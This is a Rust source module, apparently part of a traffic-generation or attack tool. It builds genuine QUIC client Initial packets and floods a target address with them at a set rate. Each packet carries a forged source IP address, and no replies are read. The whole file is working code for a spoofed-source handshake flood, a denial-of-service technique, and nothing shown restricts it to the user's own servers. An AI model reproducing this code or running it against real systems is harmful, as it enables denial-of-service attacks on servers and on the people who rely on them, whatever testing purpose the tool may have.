//! First packets of QUIC clients with forged addresses.

use std::convert::Infallible;
use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use futures_util::future::join_all;
use quinn::crypto::rustls::QuicClientConfig;
use quinn::{ClientConfig, Endpoint};
use quinn_udp::{Transmit, UdpSocketState};
use rustls::RootCertStore;
use rustls::crypto::aws_lc_rs::{default_provider, kx_group};
use rustls::version::TLS13;
use tokio::io::Interest;
use tokio::net::UdpSocket;
use tokio::time::interval;

use super::{Attacker, Crowd};

/// Number of different first packets, each with keys of its own.
const PACKETS: usize = 64;

/// Interval between two batches of packets.
const BATCH: Duration = Duration::from_millis(1);

/// Room for a datagram, in bytes.
const DATAGRAM: usize = 2000;

impl Attacker {
    /// Sends the first packets of QUIC clients, each from another address, and reads no answer. A crowd of QUIC has a
    /// rate, and holds nothing. Fails if a packet cannot be sent.
    pub(crate) async fn initials(
        &self,
        to: SocketAddr,
        name: &str,
        crowd: Crowd,
    ) -> anyhow::Result<Infallible> {
        let packets = first_packets(name).await?;
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).await?;
        let state = UdpSocketState::new((&socket).into())?;
        let mut ticks = interval(BATCH);
        let mut packets = packets.iter().cycle();
        let mut due = 0.0;
        loop {
            ticks.tick().await;
            due += crowd.rate * BATCH.as_secs_f64();
            while due >= 1.0
                && let Some(packet) = packets.next()
            {
                due -= 1.0;
                self.forged(&socket, &state, to, packet).await?;
            }
        }
    }

    /// Sends a datagram from the next address.
    async fn forged(
        &self,
        socket: &UdpSocket,
        state: &UdpSocketState,
        to: SocketAddr,
        datagram: &[u8],
    ) -> io::Result<()> {
        let transmit = Transmit {
            destination: to,
            ecn: None,
            contents: datagram,
            segment_size: None,
            src_ip: Some(self.source().ip()),
        };
        let send = || state.try_send(socket.into(), &transmit);
        socket.async_io(Interest::WRITABLE, send).await?;
        self.opened();
        self.sent(datagram.len());
        Ok(())
    }
}

/// Returns the first packets of clients that get no answer. A hello without post-quantum key shares needs one datagram.
async fn first_packets(name: &str) -> anyhow::Result<Vec<Bytes>> {
    let mut provider = default_provider();
    provider.kx_groups = vec![kx_group::X25519];
    let tls = rustls::ClientConfig::builder_with_provider(Arc::new(provider))
        .with_protocol_versions(&[&TLS13])?
        .with_root_certificates(RootCertStore::empty())
        .with_no_client_auth();
    let config = ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls)?));
    let client = Endpoint::client((Ipv4Addr::LOCALHOST, 0).into())?;
    let packets = (0..PACKETS).map(async |_| {
        let silent = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
        let _connecting = client.connect_with(config.clone(), silent.local_addr()?, name)?;
        let mut packet = vec![0; DATAGRAM];
        let length = silent.recv(&mut packet).await?;
        packet.truncate(length);
        anyhow::Ok(Bytes::from(packet))
    });
    join_all(packets).await.into_iter().collect()
}
